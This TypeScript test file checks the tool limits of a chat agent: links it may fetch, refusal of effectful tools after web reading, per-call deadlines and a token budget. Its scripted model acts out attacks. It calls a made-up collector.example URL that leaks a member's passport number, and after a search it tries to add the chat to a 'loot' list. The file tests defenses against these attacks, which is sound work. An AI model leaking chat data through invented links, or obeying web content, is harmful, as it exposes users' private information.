/**
 * What an answer's tools cannot do, on the real worker (PostgreSQL, the local
 * XMTP node, a member's node-sdk client) with the scripted model and a
 * loopback search provider: read a link nobody sent (the chat would ride out
 * in its query string), act after reading the web, hold the answer past
 * their deadline, or spend past the answer's token budget however large the
 * tools' results.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import type { DecodedMessage, Reaction } from "@xmtp/node-sdk";
import { beforeAll, afterAll, describe, expect, it } from "vitest";
import type { ChatMessage } from "@/lib/llm";
import { promptTokenBound } from "@/lib/llm/budget";
import { UNKNOWN_LINK } from "@/lib/agents/tools/web";
import { ask, launchAndJoin, withRunningWorker, type LaunchedForTest } from "@/test/worker";
import type { RecordedRequest, ScriptStep } from "@/test/scripted-model-server";
import { ANSWER_TOKEN_BUDGET } from "./tool-loop";
import { AFTER_WEB } from "./tool-session";

/** A SearXNG stand-in on loopback: every query finds the same two pages. */
const FOUND = ["https://10.0.0.7/guide/?id=7", "https://10.0.0.8/other"];
/** Shorter than the 10 s a fetch may take, so the call's own deadline shows. */
const TOOL_CALL_MS = 2_000;
let search: http.Server;
beforeAll(async () => {
  search = http.createServer((req, res) => {
    if (req.url?.includes("slow")) return; // never answered
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ results: FOUND.map((url, i) => ({ title: `Page ${i}`, url, content: "…" })) }));
  });
  await new Promise<void>((resolve) => search.listen(0, "127.0.0.1", resolve));
});
afterAll(async () => {
  search.closeAllConnections();
  await new Promise<void>((resolve) => search.close(() => resolve()));
});

const run = withRunningWorker({
  idle: 1,
  prefix: "agents-tool-bounds",
  poolTimeoutMs: 60_000,
  model: { timeoutMs: 8_000, maxRetries: 0 },
  options: { thinkingAfterMs: 30_000 },
  // Read when the worker starts, after the search server above listens.
  settings: () => ({
    SEARCH_PROVIDER: "searxng",
    SEARCH_URL: `http://127.0.0.1:${(search.address() as AddressInfo).port}`,
    SEARCH_ALLOW_LOOPBACK: true,
    AGENT_TOOL_CALL_MS: TOOL_CALL_MS,
  }),
});

const toolResults = (r: RecordedRequest) =>
  r.messages.filter((m): m is ChatMessage & { role: "tool" } => m.role === "tool").map((m) => m.content);

const messagesOf = async (a: LaunchedForTest) => {
  await a.group.sync();
  return (await a.group.messages()) as DecodedMessage<unknown>[];
};

let agent: LaunchedForTest;

describe("the bounds of an answer's tools", () => {
  it("fetch_url reads a link the member sent (normalised), never one the model made up", async () => {
    agent = await launchAndJoin(run.tmp.dir, "Reader", "Reads pages.");
    await ask(agent.group, agent.agentInbox, "my passport number is X1234567");
    const invented = `https://collector.example/?q=${encodeURIComponent("passport X1234567")}`;
    run.model.script(
      {
        toolCalls: [
          { name: "fetch_url", arguments: { url: "HTTP://10.0.0.9/notes#top" } },
          { name: "fetch_url", arguments: { url: invented } },
          { name: "fetch_url", arguments: { url: "http://10.0.0.9/notes?page=2" } },
        ],
      },
      { text: "Read what I could." },
    );
    const before = run.model.requests.length;
    expect(await ask(agent.group, agent.agentInbox, "what does http://10.0.0.9/notes/ say?")).toEqual([
      "Read what I could.",
    ]);
    const [sent, refused, otherQuery] = toolResults(run.model.requests.slice(before).at(-1)!);
    // The member's link was fetched (and refused by the address rules, a later stage), the others never.
    expect(sent).toMatch(/^Error: .*10\.0\.0\.9.*refused/);
    expect(refused).toBe(`Error: ${UNKNOWN_LINK}`);
    expect(otherQuery).toBe(`Error: ${UNKNOWN_LINK}`);
  });

  it("after a search returned results, its links may be read and no tool with an effect runs", async () => {
    run.model.script(
      {
        toolCalls: [
          { name: "react", arguments: { emoji: "✅" } }, // before anything was read: runs
          { name: "web_search", arguments: { query: "guide" } },
          { name: "react", arguments: { emoji: "🚫" } }, // after: refused
        ],
      },
      {
        toolCalls: [
          { name: "fetch_url", arguments: { url: "https://10.0.0.7/guide?id=7" } },
          { name: "list", arguments: { action: "add", list: "loot", items: ["the chat"] } },
          { name: "reply", arguments: { text: "posted by a page" } },
        ],
      },
      { text: "Here is the guide." },
    );
    const before = run.model.requests.length;
    const asked = await agent.group.sendText("find the guide");
    await expect
      .poll(async () => (await messagesOf(agent)).some((m) => m.content === "Here is the guide."), {
        timeout: 20_000,
      })
      .toBe(true);
    const requests = run.model.requests.slice(before);
    expect(toolResults(requests[1])).toEqual(["Reacted ✅.", expect.stringContaining(FOUND[0]), AFTER_WEB]);
    const [fetched, list, reply] = toolResults(requests[2]).slice(3);
    expect(fetched).toMatch(/^Error: .*10\.0\.0\.7.*refused/); // allowed by the search, stopped by the address rules
    expect([list, reply]).toEqual([AFTER_WEB, AFTER_WEB]);
    expect(await run.db.sharedList.count({ where: { name: "loot" } })).toBe(0);
    const mine = (await messagesOf(agent)).filter((m) => m.senderInboxId === agent.agentInbox);
    expect(mine.some((m) => m.contentType?.typeId === "reply")).toBe(false);
    const target = (await messagesOf(agent)).find((m) => m.id === asked)!;
    expect((target.reactions ?? []).map((r) => (r.content as Reaction).content)).toEqual(["✅"]);
  });

  it("a tool call that never returns is stopped at its deadline; the model reads why and answers", async () => {
    run.model.script(
      { toolCalls: [{ name: "web_search", arguments: { query: "something slow" } }] },
      { text: "The search was too slow." },
    );
    const before = run.model.requests.length;
    const started = Date.now();
    expect(await ask(agent.group, agent.agentInbox, "search something slow")).toEqual([
      "The search was too slow.",
    ]);
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(toolResults(run.model.requests.slice(before).at(-1)!)).toEqual([
      `Error: web_search took longer than ${TOOL_CALL_MS / 1000} s and was stopped.`,
    ]);
  });

  it("one message with huge tool results spends no more than the answer's budget", async () => {
    // Only the list tool is offered, so what the budget leaves for the results doesn't move with the registry.
    const template = await run.db.template.create({
      data: {
        slug: "big-lists",
        name: "Big lists",
        emoji: "📋",
        category: "Test",
        description: "Shows lists.",
        instructions: "Reads pages.",
        tools: ["list"],
      },
    });
    await run.db.agent.update({
      where: { id: agent.agentId },
      data: { tokenCap: 100_000_000, templateId: template.id },
    });
    // Three lists of 100 items of ~290 characters: each shown is ~30,000 characters.
    for (const name of ["big1", "big2", "big3"])
      await run.db.sharedList.create({
        data: {
          agentId: agent.agentId,
          conversationId: agent.group.id,
          name,
          items: {
            create: Array.from({ length: 100 }, (_, i) => ({ text: `${name} ${i} ${"x".repeat(280)}` })),
          },
        },
      });
    // The model reports the prompt's worst case as its usage: as costly as a prompt can be.
    const used = (r: RecordedRequest) => promptTokenBound(r.messages, r.tools ?? []) + 10;
    run.model.setDefault((r): ScriptStep => {
      if (!r.tools) return { text: "All three lists are long.", tokens: used(r) };
      const shows = ["big1", "big2", "big3"].map((list) => ({
        name: "list",
        arguments: { action: "show", list },
      }));
      return { toolCalls: shows, tokens: used(r) };
    });
    const { tokensUsed: before } = await run.db.agent.findUniqueOrThrow({ where: { id: agent.agentId } });
    const first = run.model.requests.length;
    expect(await ask(agent.group, agent.agentInbox, "show me all the big lists", 1, 60_000)).toEqual([
      "All three lists are long.",
    ]);
    const requests = run.model.requests.slice(first);
    const { tokensUsed: after } = await run.db.agent.findUniqueOrThrow({ where: { id: agent.agentId } });
    const reported = requests.reduce((sum, r) => sum + used(r), 0);
    expect(after - before).toBe(reported);
    console.info(
      `budget test: ${requests.length} calls, ${reported} tokens reported (budget ${ANSWER_TOKEN_BUDGET})`,
    );
    expect(reported).toBeLessThanOrEqual(ANSWER_TOKEN_BUDGET);
    // The results were read (cut), and the last call, with no room for tools, had none.
    expect(requests.length).toBeGreaterThanOrEqual(2);
    expect(requests.at(-1)!.tools).toBeUndefined();
    expect(toolResults(requests.at(-1)!).join("\n")).toContain("big3 0 xxx");
    run.model.setDefault((r) => ({ text: `echo: ${r.messages.length}` }));
  });
});
